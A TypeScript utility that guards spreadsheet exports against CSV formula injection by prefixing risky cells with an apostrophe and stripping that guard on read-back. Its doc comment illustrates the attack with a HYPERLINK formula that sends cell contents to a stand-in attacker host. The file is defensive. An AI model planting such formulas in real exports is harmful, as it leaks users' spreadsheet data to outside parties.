/**
 * CSV injection (OWASP): Excel, LibreOffice and Google Sheets run a cell that starts with "=", "+", "-" or "@"
 * as a formula, so a web page titled `=HYPERLINK("http://evil.example/?"&A1)` that someone highlights would
 * send their spreadsheet's cells away when they open their export. Such a cell is written with a leading
 * apostrophe, which spreadsheets show as text and hide. A dash before a space or another dash ("- buy milk",
 * "-- me") is a list or a signature, never a formula, and is left as typed.
 */
const FORMULA_START_RE = /^(?:[=+@\t\r]|-(?![\s-]))/;

/** The cell as a spreadsheet must read it: as text. */
export function asSpreadsheetText(cell: string): string {
  return FORMULA_START_RE.test(cell) ? `'${cell}` : cell;
}

const GUARDED_RE = /^'(?=[=+@\t\r]|-(?![\s-]))/;

/** A cell read back from such a file, its guard removed: the round trip gives the text as saved. */
export function withoutSpreadsheetGuard(cell: string): string {
  return cell.replace(GUARDED_RE, '');
}
